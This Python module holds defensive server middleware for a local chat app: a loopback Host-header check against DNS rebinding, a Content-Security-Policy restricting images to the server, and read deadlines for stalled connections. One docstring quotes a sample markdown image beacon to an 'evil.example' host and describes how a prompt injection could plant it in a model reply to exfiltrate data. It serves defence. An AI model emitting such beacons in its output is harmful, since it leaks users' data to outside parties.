"""The edge of the server, where strangers' connections arrive: what it answers, how long it
waits, and what the page it serves may load. All are installed by ``app.server``.

    LoopbackHostOnly   on a server bound to this machine only, a request must name a loopback
                       host (a web page re-pointing its own name at 127.0.0.1 cannot read replies)
    TimedH11Protocol   a connection must send its request's head, then its body, in time
    OwnImagesOnly      the page shows images and media from this server only: a reply cannot
                       make every reader's browser call another site
"""

from __future__ import annotations

import h11
from fastapi.responses import JSONResponse
from uvicorn.protocols.http.h11_impl import H11Protocol

from app.edge.errors import openai_error

LOOPBACK_HOSTS = ("127.0.0.1", "localhost", "::1")  # --host values that serve this machine only
LOOPBACK_NAMES = frozenset({"127.0.0.1", "localhost", "[::1]"})  # Host header names (port aside) they answer


class LoopbackHostOnly:
    """ASGI middleware of a server that listens on this machine only: a request whose Host
    header names another site gets a 421. A web page the user visits can make the browser send
    requests to 127.0.0.1, and with DNS rebinding (its own name re-pointed at 127.0.0.1) read
    the replies, but the Host header still carries its name. Not installed with ``--share``
    (the tunnel connects from 127.0.0.1 with its public name) nor for another ``--host``."""

    def __init__(self, app, port: int) -> None:
        self.app, self.port = app, port

    async def __call__(self, scope, receive, send) -> None:
        host = dict(scope.get("headers", ())).get(b"host", b"").decode("latin-1")
        if scope["type"] not in ("http", "websocket") or not host or host_name(host) in LOOPBACK_NAMES:
            return await self.app(scope, receive, send)
        if scope["type"] == "websocket":
            return await send({"type": "websocket.close", "code": 1008})
        message = (f"This server listens on this machine only and answers requests addressed to localhost "
                   f"or 127.0.0.1, not to {host[:100]!r}. Open http://127.0.0.1:{self.port}/ ; to serve other "
                   "names, start it with --host 0.0.0.0 or --share.")
        await JSONResponse({"error": openai_error(message, 421), "detail": message}, status_code=421)(
            scope, receive, send)


# What the page may load as images and media: this server (by whatever name the page was
# reached: localhost, a Space's, the share link's) and inline data; no other site. The rest
# (scripts, styles, fonts, connections) is left as it was: Gradio's page needs it as it is.
PAGE_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:"


class OwnImagesOnly:
    """ASGI middleware: every HTTP response carries ``Content-Security-Policy: PAGE_POLICY``.

    The chat renders each reply as markdown, and markdown and the HTML it allows can embed
    images: ``![x](https://evil.example/beacon?d=…)`` or ``<img src=…>``, planted in a reply by a
    prompt injection (a pasted document, a crafted earlier message), would make every reader's
    browser fetch that address at once, with whatever the reply put into it. The browser refuses
    such loads under this policy, whatever the text looks like and wherever it is rendered.
    Images the page's own components show come from this server (``/gradio_api/file=``, its
    assets, ``data:`` and ``blob:`` URLs), so nothing of the page is lost. It goes on every
    response, not only the page's HTML: a file this server sends that a browser opens as a
    document (an SVG, say) is held to it too. A browser enforces each policy header it gets,
    so one the app sets itself would still apply beside this one."""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] != "http":
            return await self.app(scope, receive, send)

        async def send_with_policy(message) -> None:
            if message["type"] == "http.response.start":
                headers = [*message.get("headers", ()), (b"content-security-policy", PAGE_POLICY.encode())]
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send_with_policy)


def host_name(host: str) -> str:
    """A Host header's name without its port: ``[::1]:7860`` -> ``[::1]``, ``localhost:7860`` -> ``localhost``."""
    host = host.strip().lower()
    return host.partition("]")[0] + "]" if host.startswith("[") else host.partition(":")[0]


class TimedH11Protocol(H11Protocol):
    """uvicorn's h11 protocol with the read deadlines it lacks. uvicorn 0.54 arms a timer only
    after a response (keep-alive), so a connection that sends half a header, or a head and half
    a body, and then nothing, holds its socket for good; a few hundred exhaust the process's
    files. Here a request's head must arrive within ``head_s`` (of the connection opening, or of
    its first byte on a kept-alive one) and its body within ``body_s`` of the head; else the
    connection is closed. The phase is read from h11's state after each read: IDLE (no complete
    head yet), SEND_BODY, or neither (the app is answering: no deadline)."""

    head_s = body_s = 0.0  # set per server by timed_protocol

    def connection_made(self, transport) -> None:
        self._phase, self._deadline = None, None
        super().connection_made(transport)
        self._watch()

    def data_received(self, data: bytes) -> None:
        super().data_received(data)
        self._watch()

    def connection_lost(self, exc: Exception | None) -> None:
        if self._deadline:
            self._deadline.cancel()
        super().connection_lost(exc)

    def _watch(self) -> None:
        state = self.conn.their_state
        phase = "head" if state is h11.IDLE else "body" if state is h11.SEND_BODY else None
        if phase == self._phase:
            return  # a deadline runs from the phase's start, not from the latest byte
        self._phase = phase
        if self._deadline:
            self._deadline.cancel()
        self._deadline = phase and self.loop.call_later(self.head_s if phase == "head" else self.body_s, self._expire)

    def _expire(self) -> None:
        self._deadline = None
        if not self.transport.is_closing():
            self.transport.close()  # the app, if it was reading the body, sees the client disconnect


def timed_protocol(head_s: float, body_s: float) -> type[TimedH11Protocol]:
    return type("TimedH11Protocol", (TimedH11Protocol,), {"head_s": head_s, "body_s": body_s})
